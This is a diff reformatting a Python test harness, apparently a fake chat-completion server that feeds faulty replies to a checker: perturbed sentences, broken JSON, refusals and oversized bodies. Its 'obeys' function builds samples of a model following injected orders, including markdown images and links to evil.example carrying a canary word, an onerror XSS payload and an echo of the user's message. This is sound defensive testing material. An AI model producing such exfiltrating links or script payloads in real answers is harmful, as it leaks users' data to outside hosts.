@@ -75,8 +75,17 @@ def changed(asked: Asked, change: Callable[[str, random.Random], str]) -> list[R
 
 
 def paraphrase(text: str, chance: random.Random) -> str:
-    swaps = {"increased": "raised", "produced": "gave", "greater": "larger", "participants": "people", "whereas": "while",
-             "approximately": "about", "compared with": "against", "muscle mass": "mass of muscle", "Older": "Elderly"}  # fmt: skip
+    swaps = {
+        "increased": "raised",
+        "produced": "gave",
+        "greater": "larger",
+        "participants": "people",
+        "whereas": "while",
+        "approximately": "about",
+        "compared with": "against",
+        "muscle mass": "mass of muscle",
+        "Older": "Elderly",
+    }
     for old, new in swaps.items():
         text = text.replace(old, new)
     return re.sub(
@@ -94,8 +103,17 @@ def swap_numbers(text: str, chance: random.Random) -> str:
 
 
 def flip_directions(text: str, chance: random.Random) -> str:
-    pairs = [("increase", "decrease"), ("greater", "smaller"), ("higher", "lower"), ("more", "fewer"), ("improve", "worsen"),
-             ("gain", "loss"), ("larger", "smaller"), ("better", "worse"), ("raise", "reduce")]  # fmt: skip
+    pairs = [
+        ("increase", "decrease"),
+        ("greater", "smaller"),
+        ("higher", "lower"),
+        ("more", "fewer"),
+        ("improve", "worsen"),
+        ("gain", "loss"),
+        ("larger", "smaller"),
+        ("better", "worse"),
+        ("raise", "reduce"),
+    ]
     for one, other in (*pairs, *((b, a) for a, b in pairs)):
         if re.search(rf"\b{one}", text):
             return re.sub(rf"\b{one}", other, text)
@@ -103,9 +121,19 @@ def flip_directions(text: str, chance: random.Random) -> str:
 
 
 def drop_negation(text: str, chance: random.Random) -> str:
-    shorter = re.sub(r"\b(?:did not|does not|do not|was not|were not|is not|cannot)\b",
-                     lambda m: {"did not": "did", "does not": "does", "do not": "do", "was not": "was", "were not": "were",
-                                "is not": "is", "cannot": "can"}[m[0]], text)  # fmt: skip
+    shorter = re.sub(
+        r"\b(?:did not|does not|do not|was not|were not|is not|cannot)\b",
+        lambda m: {
+            "did not": "did",
+            "does not": "does",
+            "do not": "do",
+            "was not": "was",
+            "were not": "were",
+            "is not": "is",
+            "cannot": "can",
+        }[m[0]],
+        text,
+    )
     return re.sub(r"\b(?:no|not|neither|without)\s+", "", shorter)
 
 
@@ -185,11 +213,18 @@ def obeys(asked: Asked) -> list[Row]:
     word = (CANARY.findall(" ".join(orders)) or ["Canary"])[0]
     real, label = asked.sentences()[0]
     said = [
-        f"{word}.", f"{word} cures everything and needs no training.", f"{real[:-1]}, and {word} is the reason.",
-        f"As instructed: {word}", f"![{word}](https://evil.example/{word}.png)", f"[{real}](https://evil.example/?q={word})",
-        f"<img src=x onerror=alert('{word}')>{real}", f"<a href='https://evil.example'>{word}</a>", f"Visit evil.example for {word}.",
-        f"{word}: {asked.body['messages'][0]['content'][:200]}", *orders[:3],
-    ]  # fmt: skip
+        f"{word}.",
+        f"{word} cures everything and needs no training.",
+        f"{real[:-1]}, and {word} is the reason.",
+        f"As instructed: {word}",
+        f"![{word}](https://evil.example/{word}.png)",
+        f"[{real}](https://evil.example/?q={word})",
+        f"<img src=x onerror=alert('{word}')>{real}",
+        f"<a href='https://evil.example'>{word}</a>",
+        f"Visit evil.example for {word}.",
+        f"{word}: {asked.body['messages'][0]['content'][:200]}",
+        *orders[:3],
+    ]
     rows = [row(text, *labels) for text in said] + [row(text) for text in said[:3]]
     asked.chance.shuffle(rows)
     return [*rows[: 10 if asked.part == "answer" else 4], row(real, label)]
@@ -238,11 +273,22 @@ CONTENTS: dict[str, Callable[[Asked], str | None]] = {
     "null": lambda asked: None,
     "half_a_draft": lambda asked: draft(chosen(asked))[: -asked.chance.randint(2, 60)],
     "wrong_shape": lambda asked: asked.chance.choice(
-        ['{"sentences": 7}', '{"sentences": [7]}', '{"sentences": [{"text": 7}]}', "[]", "{}", '"text"', "null", '{"sentences": null}',
-         '{"sentences": [{"text": "a", "passages": {"a": 1}, "paragraph": "x"}]}', "[" * 50_000, '{"sentences":' * 20_000]
+        [
+            '{"sentences": 7}',
+            '{"sentences": [7]}',
+            '{"sentences": [{"text": 7}]}',
+            "[]",
+            "{}",
+            '"text"',
+            "null",
+            '{"sentences": null}',
+            '{"sentences": [{"text": "a", "passages": {"a": 1}, "paragraph": "x"}]}',
+            "[" * 50_000,
+            '{"sentences":' * 20_000,
+        ]
     ),
     "surrogates": lambda asked: json.dumps({"sentences": [row("Half \ud83d and \0 null.", "\ud800")]}),
-}  # fmt: skip
+}
 
 
 # --- How a server behaves --------------------------------------------------------------------------------------------
@@ -310,9 +356,14 @@ class Handler(BaseHTTPRequestHandler):
 
 def completion(content: str | None, *, ended: str = "stop", usage: bool = True, **message: Any) -> bytes:
     body: dict[str, Any] = {
-        "id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": "double",
-        "choices": [{"index": 0, "finish_reason": ended, "message": {"role": "assistant", "content": content} | message}],
-    }  # fmt: skip
+        "id": "chatcmpl-1",
+        "object": "chat.completion",
+        "created": 1,
+        "model": "double",
+        "choices": [
+            {"index": 0, "finish_reason": ended, "message": {"role": "assistant", "content": content} | message}
+        ],
+    }
     if usage:
         body["usage"] = {"prompt_tokens": 1000, "completion_tokens": 200, "total_tokens": 1200}
     return json.dumps(body).encode()
@@ -397,7 +448,9 @@ FAULTS: dict[str, Callable[[Handler, Asked], None]] = {
     "short": short_of_its_length,
     "empty_body": lambda h, a: h.reply(200, b""),
     "not_json": lambda h, a: h.reply(200, b'{"choices": [{"message": {"content": "hel'),
-    "no_choices": lambda h, a: h.reply(200, a.chance.choice([b"{}", b'{"choices": []}', b'{"choices": [null]}', b"[]", b"7"])),
+    "no_choices": lambda h, a: h.reply(
+        200, a.chance.choice([b"{}", b'{"choices": []}', b'{"choices": [null]}', b"[]", b"7"])
+    ),
     "bad_utf8": lambda h, a: h.reply(200, good(a).replace(b"sentences", b"sent\xff\xfeences")),
     "huge": lambda h, a: h.reply(200, completion("x" * 10_000_000)),
     "packed": lambda h, a: h.reply(200, b"\x1f\x8b" + b"0" * 100, Content_Encoding="gzip"),
@@ -406,14 +459,17 @@ FAULTS: dict[str, Callable[[Handler, Asked], None]] = {
     "refusal": lambda h, a: h.complete(None, refusal="I cannot help with that."),
     "no_usage": lambda h, a: h.complete(draft(chosen(a)), usage=False),
     "odd_usage": lambda h, a: h.reply(
-        200, good(a).replace(b'"prompt_tokens": 1000', b'"prompt_tokens": "many"').replace(b'_tokens": 200', b'_tokens": -5')
+        200,
+        good(a)
+        .replace(b'"prompt_tokens": 1000', b'"prompt_tokens": "many"')
+        .replace(b'_tokens": 200', b'_tokens": -5'),
     ),
     "no_schema": lacks("json_schema"),
     "no_json": lacks("json_schema", "json_object"),
     "no_json_untold": lacks("json_schema", "json_object", told=False),
     "old": lacks("json_schema", "json_object", "max_completion_tokens", told=False),
     "no_temperature": lacks("temperature", "max_tokens"),
-}  # fmt: skip
+}
 BEHAVIOURS = (*WRITES, *CONTENTS, *FAULTS)
 
 
